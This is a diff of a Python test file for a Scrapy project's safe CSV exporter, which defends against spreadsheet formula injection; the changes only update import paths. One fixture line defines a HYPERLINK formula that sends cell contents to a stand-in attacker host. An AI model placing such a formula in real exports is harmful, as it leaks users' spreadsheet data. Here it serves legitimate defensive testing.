@@ -16,8 +16,8 @@ from crawling import crawl
 from hypothesis import given
 from hypothesis import strategies as st
 
-from scrapy_treesim import feeds
-from scrapy_treesim.feeds import SafeCsvItemExporter, plain_cell
+from scrapy_treesim.crawl import feeds
+from scrapy_treesim.crawl.feeds import SafeCsvItemExporter, plain_cell
 from scrapy_treesim.items import RecordItem, RecordRow
 
 LINK = '=HYPERLINK("https://evil.example/?"&A1,"Iron pan")'
@@ -34,7 +34,7 @@ PLAIN = [
     "ann@example.com", "£64.00", "— she said", '"Yes," she said', "'Tis", "\u2212 3", "中文",
 ]  # fmt: skip
 VALUES = [-3.5, -3, 0, True, None, Decimal("-3.5"), float("-inf")]
-SAFE = {"csv": "scrapy_treesim.feeds.SafeCsvItemExporter"}
+SAFE = {"csv": "scrapy_treesim.crawl.feeds.SafeCsvItemExporter"}
 
 
 @pytest.mark.parametrize("text", FORMULAS)
